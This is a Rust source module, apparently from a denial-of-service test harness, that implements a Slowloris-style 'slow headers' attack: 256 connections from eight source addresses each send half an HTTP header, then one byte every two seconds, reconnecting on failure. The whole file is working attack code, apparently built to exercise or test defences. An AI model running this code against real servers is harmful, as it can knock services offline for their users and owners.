//! Connections to the page that send half a header and then a byte from time to time, from eight addresses.

use std::{net::Ipv4Addr, time::Duration};

use futures::future::join_all;
use tokio::{io::AsyncWriteExt, net::TcpStream};

use super::{addresses, attacker::Attacker, counts::Counts, target::Target};

/// Addresses, and connections of each.
const NETWORKS: u8 = 8;
const EACH: usize = 32;
/// Between two bytes of a connection.
const INTERVAL: Duration = Duration::from_secs(2);
const RETRY: Duration = Duration::from_secs(1);

pub(super) fn start(target: &Target) -> Attacker {
    let target = target.clone();
    Attacker::start("slow headers", async move |counts| {
        let ips: Vec<_> = (0..NETWORKS)
            .map(|network| addresses::towards(addresses::source(addresses::Role::SlowHeaders, network)))
            .collect();
        let connections = ips.iter().cycle().take(ips.len() * EACH);
        join_all(connections.map(|ip| repeat(*ip, target.page, &counts))).await;
    })
}

async fn repeat(ip: Ipv4Addr, port: u16, counts: &Counts) {
    loop {
        if let Ok(mut stream) = TcpStream::connect((ip, port)).await {
            counts.add("connections with half a header", 1);
            let mut rest: &[u8] = b"GET / HTTP/1.1\r\nHost: x\r\nX: ";
            while stream.write_all(rest).await.is_ok() {
                rest = b"x";
                tokio::time::sleep(INTERVAL).await;
            }
        }
        tokio::time::sleep(RETRY).await;
    }
}
